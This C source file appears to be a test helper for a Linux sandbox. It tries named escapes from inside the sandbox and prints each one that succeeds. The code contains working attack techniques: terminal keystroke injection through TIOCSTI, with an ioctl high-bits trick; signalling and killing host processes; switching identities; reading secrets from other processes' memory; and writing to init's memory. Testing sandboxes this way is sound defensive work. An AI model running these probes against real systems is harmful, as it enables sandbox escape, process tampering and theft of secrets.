// Attacks from inside a sandbox, for tests: "attack NAME ARGUMENT…". Each prints a line for what it has reached, and nothing
// for what was refused: an attack that prints nothing has failed.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#define SYS_pidfd_send_signal 424
#endif

static void reached(const char *what, int yes) {
  if (yes) puts(what);
}

// Fakes input to the terminal that is standard input, then waits: the end of a session's leader hangs its terminal up.
static void terminal(void) {
  ioctl(0, TIOCSCTTY, 0);
  reached("plain", syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, "p") == 0);
  reached("high bits", syscall(SYS_ioctl, 0, TIOCSTI | 0x12300000000ul, "h") == 0);
  char paste[] = {3}; // TIOCL_PASTESEL: only a console has it
  reached("selection", syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX, paste) == 0);
  reached("selection, high bits", syscall(SYS_ioctl, 0, TIOCLINUX | 0x12300000000ul, paste) == 0);
  syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI, "\n");
  puts("done");
  fflush(stdout);
  for (;;) pause();
}

// socket NAME: reads what a server at an abstract address says, as a stream and as a datagram.
static void abstract(char **words) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path + 1, words[0], sizeof address.sun_path - 2);
  socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(words[0]);
  int stream = socket(AF_UNIX, SOCK_STREAM, 0);
  char text[64] = "";
  if (connect(stream, (void *)&address, length) == 0 && read(stream, text, sizeof text - 1) > 0) puts(text);
  strcat(address.sun_path + 1, "-datagram");
  int datagram = socket(AF_UNIX, SOCK_DGRAM, 0);
  reached("datagram", sendto(datagram, "x", 1, 0, (void *)&address, length + strlen("-datagram")) == 1);
}

// signals NUMBER: every way to a process of the host. Signal 0 asks whether a signal could be sent.
static void signals(char **words) {
  int pid = atoi(words[0]);
  union sigval value = {0};
  reached("kill", kill(pid, 0) == 0);
  reached("group", kill(-pid, 0) == 0);
  reached("everyone", kill(-1, 0) == 0);
  reached("queue", sigqueue(pid, 0, value) == 0);
  reached("thread", syscall(SYS_tgkill, pid, pid, 0) == 0);
  reached("any thread", syscall(SYS_tkill, pid, 0) == 0);
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  reached("pidfd", pidfd >= 0 && syscall(SYS_pidfd_send_signal, pidfd, 0, 0, 0) == 0);
  int ends[2];
  if (pipe(ends) == 0) reached("owner", fcntl(ends[0], F_SETOWN, pid) == 0);
  errno = 0;
  reached("priority", getpriority(PRIO_PROCESS, pid) != -1 || errno == 0);
  struct rlimit limit;
  reached("limits", prlimit(pid, RLIMIT_NOFILE, 0, &limit) == 0);
  reached("killed", kill(pid, SIGTERM) == 0);
}

// ids USER GROUP: becomes somebody else, in every way there is.
static void ids(char **words) {
  uid_t user = strtoul(words[0], 0, 10);
  gid_t group = strtoul(words[1], 0, 10), groups[] = {group};
  reached("setgroups", setgroups(1, groups) == 0);
  reached("no groups", setgroups(0, 0) == 0);
  reached("setfsgid", (setfsgid(group), (gid_t)setfsgid(-1)) == group);
  reached("setregid", setregid(-1, group) == 0);
  reached("setresgid", setresgid(-1, group, -1) == 0);
  reached("setgid", setgid(group) == 0);
  reached("setfsuid", (setfsuid(user), (uid_t)setfsuid(-1)) == user);
  reached("setreuid", setreuid(-1, user) == 0);
  reached("setresuid", setresuid(-1, user, -1) == 0);
  reached("setuid", setuid(user) == 0);
}

// memory ADDRESS SECRET…: looks for each secret at its address in the memory of every process that comes into being, until there is input.
static void memory(char **words, int count) {
  char name[64], text[256];
  int newest = getpid(), last = open("/proc/loadavg", O_RDONLY), host = getppid();
  long tries = 0;
  puts("ready");
  fflush(stdout);
  for (struct pollfd input = {0, POLLIN, 0}; tries % 64 || poll(&input, 1, 0) == 0; tries++) {
    char load[128] = "";
    if (pread(last, load, sizeof load - 1, 0) > 0 && strrchr(load, ' ')) newest = atoi(strrchr(load, ' '));
    for (int i = -3; i <= 3; i++) {
      int pid = i == -3 ? host : newest + i;
      if (pid <= 0 || pid == getpid()) continue;
      sprintf(name, "/proc/%d/mem", pid);
      int file = open(name, O_RDONLY);
      for (int k = 0; k + 1 < count; k += 2) {
        unsigned long address = strtoul(words[k], 0, 0);
        ssize_t length = strlen(words[k + 1]);
        if (!length) continue; // found already
        struct iovec to = {text, length}, from = {(void *)address, length};
        int found = file >= 0 && pread(file, text, length, address) == length && !memcmp(text, words[k + 1], length) ? 1
          : process_vm_readv(pid, &to, 1, &from, 1, 0) == length && !memcmp(text, words[k + 1], length) ? 2 : 0;
        if (!found) continue;
        printf("%s: %s of %s\n", words[k + 1], found == 1 ? "mem" : "process_vm_readv", pid == host ? "the host" : "another");
        words[k + 1] = "";
      }
      if (file >= 0) close(file);
    }
  }
  if (tries < 100) puts("hardly tried");
}

// init ADDRESS VALUE BYTES…: writes to the memory of process 1.
static void init(char **words) {
  int file = open("/proc/1/mem", O_RDWR);
  for (; *words; words += 3) {
    unsigned long value = strtoul(words[1], 0, 0);
    if (pwrite(file, &value, strtoul(words[2], 0, 0), strtoul(words[0], 0, 0)) <= 0) return;
  }
  puts("written");
}

int main(int count, char **words) {
  if (count < 2) return 2;
  if (!strcmp(words[1], "terminal")) terminal();
  else if (!strcmp(words[1], "abstract")) abstract(words + 2);
  else if (!strcmp(words[1], "signals")) signals(words + 2);
  else if (!strcmp(words[1], "ids")) ids(words + 2);
  else if (!strcmp(words[1], "memory")) memory(words + 2, count - 2);
  else if (!strcmp(words[1], "init")) init(words + 2);
  else return 2;
  return 0;
}
